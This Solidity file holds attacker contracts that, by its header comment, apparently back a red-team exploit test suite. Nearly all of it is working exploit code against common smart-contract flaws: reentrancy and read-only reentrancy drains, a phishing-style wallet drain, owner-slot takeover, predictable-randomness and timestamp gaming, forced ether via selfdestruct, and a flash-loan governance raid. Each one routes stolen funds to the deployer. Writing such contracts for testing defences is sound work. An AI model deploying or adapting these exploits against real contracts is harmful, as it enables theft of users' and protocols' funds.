// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

// Hand-written attacker contracts for tests/integration/test_redteam_exploits.py. Each one sends
// what it takes to the account that deployed it.

contract Looter {
    address payable internal immutable boss = payable(msg.sender);

    function _cashOut() internal {
        (bool ok, ) = boss.call{value: address(this).balance}("");
        require(ok, "cash out failed");
    }
}

interface IEtherBank {
    function deposit() external payable;
    function withdrawAll() external;
}

contract ReenterBank is Looter {
    IEtherBank private immutable bank;

    constructor(IEtherBank bank_) {
        bank = bank_;
    }

    function attack() external payable {
        bank.deposit{value: msg.value}();
        bank.withdrawAll();
        _cashOut();
    }

    receive() external payable {
        if (address(bank).balance >= msg.value && msg.value > 0) bank.withdrawAll();
    }
}

interface ISharedLedger {
    function deposit() external payable;
    function withdraw() external;
    function transfer(address to, uint256 amount) external;
    function balances(address who) external view returns (uint256);
}

contract ReenterLedger is Looter {
    ISharedLedger private immutable ledger;
    bool private moved;

    constructor(ISharedLedger ledger_) {
        ledger = ledger_;
    }

    function attack() external payable {
        ledger.deposit{value: msg.value}();
        ledger.withdraw();
        _cashOut();
    }

    receive() external payable {
        if (!moved) {
            moved = true;
            ledger.transfer(boss, ledger.balances(address(this)));
        }
    }
}

interface IStakePool {
    function stake() external payable;
    function unstake(uint256 amount) external;
    function transferShares(address to, uint256 amount) external;
    function sharePrice() external view returns (uint256);
}

interface IShareLender {
    function depositCollateral(uint256 amount) external;
    function borrow(uint256 amount) external;
}

contract ReadOnlyReenter is Looter {
    IStakePool private immutable pool;
    IShareLender private immutable lender;
    bool private borrowed;

    constructor(IStakePool pool_, IShareLender lender_) {
        pool = pool_;
        lender = lender_;
    }

    function attack(uint256 collateral) external payable {
        pool.stake{value: msg.value}();
        pool.transferShares(address(lender), collateral);
        lender.depositCollateral(collateral);
        pool.unstake(msg.value - collateral);
        _cashOut();
    }

    receive() external payable {
        if (msg.sender == address(pool) && !borrowed) {
            borrowed = true;
            lender.borrow((10 ether * pool.sharePrice() * 80) / 100 / 1e18);
        }
    }
}

interface IOwnerWallet {
    function pay(address payable to, uint256 amount) external;
}

contract PhishingDrop {
    IOwnerWallet private immutable wallet;
    address payable private immutable boss = payable(msg.sender);

    constructor(IOwnerWallet wallet_) {
        wallet = wallet_;
    }

    function claim() external {
        wallet.pay(boss, address(wallet).balance);
    }
}

contract OwnerSlotWriter {
    address public owner;

    function takeOver(address who) external {
        owner = who;
    }
}

interface IGuessTheNumber {
    function play(uint8 guess) external payable;
}

contract Predictor is Looter {
    function attack(IGuessTheNumber game, uint256 rounds) external payable {
        bytes32 seed = keccak256(abi.encodePacked(blockhash(block.number - 1), block.timestamp));
        for (uint256 i = 0; i < rounds; i++) game.play{value: 1 ether}(uint8(uint256(seed) % 10));
        _cashOut();
    }

    receive() external payable {}
}

interface ITimedRaffle {
    function buy() external payable;
    function draw() external;
    function ticketCount() external view returns (uint256);
}

contract RaffleSniper is Looter {
    uint256 private index;

    function buy(ITimedRaffle raffle) external payable {
        raffle.buy{value: msg.value}();
        index = raffle.ticketCount() - 1;
    }

    function tryDraw(ITimedRaffle raffle) external returns (bool) {
        if (block.timestamp % raffle.ticketCount() != index) return false;
        raffle.draw();
        _cashOut();
        return true;
    }

    receive() external payable {}
}

contract ForceSend {
    constructor(address payable to) payable {
        selfdestruct(to);
    }
}

interface IGovernedTreasury {
    function propose(address payable to, uint256 amount) external returns (uint256);
    function vote(uint256 id) external;
    function execute(uint256 id) external;
}

interface IFlashLender {
    function flashLoan(uint256 amount) external;
}

interface IToken {
    function transfer(address to, uint256 amount) external returns (bool);
}

contract GovernanceRaider {
    address payable private immutable boss = payable(msg.sender);
    IGovernedTreasury private treasury;
    IToken private token;
    uint256 private proposal;

    function attack(IGovernedTreasury treasury_, IFlashLender lender, IToken token_, uint256 amount) external {
        treasury = treasury_;
        token = token_;
        proposal = treasury_.propose(boss, address(treasury_).balance);
        lender.flashLoan(amount);
    }

    function onFlashLoan(uint256 amount) external {
        treasury.vote(proposal);
        treasury.execute(proposal);
        require(token.transfer(msg.sender, amount), "repay failed");
    }
}
